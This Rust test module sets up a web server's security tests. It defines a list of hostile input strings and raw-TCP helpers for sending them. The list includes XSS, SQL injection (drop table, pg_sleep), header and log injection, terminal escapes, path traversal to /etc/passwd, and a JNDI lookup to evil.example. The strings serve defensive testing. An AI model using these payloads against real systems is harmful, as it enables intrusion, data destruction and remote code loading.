//! What an attacker would try, in the order of `docs/security.md`, which names these tests.

mod audit;
mod document;
mod headers;
mod injection;
mod limits;
mod paths;
mod requests;
mod rights;
mod storage;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::test_app::TestApp;

/// Strings that mean something to somebody: a page, a shell, a database, a log, a terminal, a template.
const HOSTILE: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; drop table room; --",
    "' or '1'='1",
    "1) union select body from room_event --",
    "\\'; select pg_sleep(60); --",
    "%27%20or%201=1",
    "a\r\nSet-Cookie: a=b\r\n\r\n",
    "a\nERROR forged: a line of the log",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}%n%s\u{0}",
    "\u{202e}gnp.exe",
];

/// Sends bytes as they are, and reads until the server has closed or says nothing more.
fn raw(app: &TestApp, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(app.address()).expect("the server accepts");
    stream.set_read_timeout(Some(Duration::from_millis(1_500))).expect("the system lets us");
    // One that refuses the head does not read the rest.
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let mut part = [0; 4_096];
    while let Ok(length) = stream.read(&mut part) {
        if length == 0 {
            break;
        }
        answer.extend_from_slice(&part[..length]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

/// The status of each answer in what came.
fn statuses(answers: &str) -> Vec<&str> {
    answers.split("HTTP/1.1 ").skip(1).map(|answer| &answer[..3]).collect()
}

/// A text as it stands in an address.
fn encoded(text: &str) -> String {
    let bytes: Vec<String> = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    bytes.concat()
}
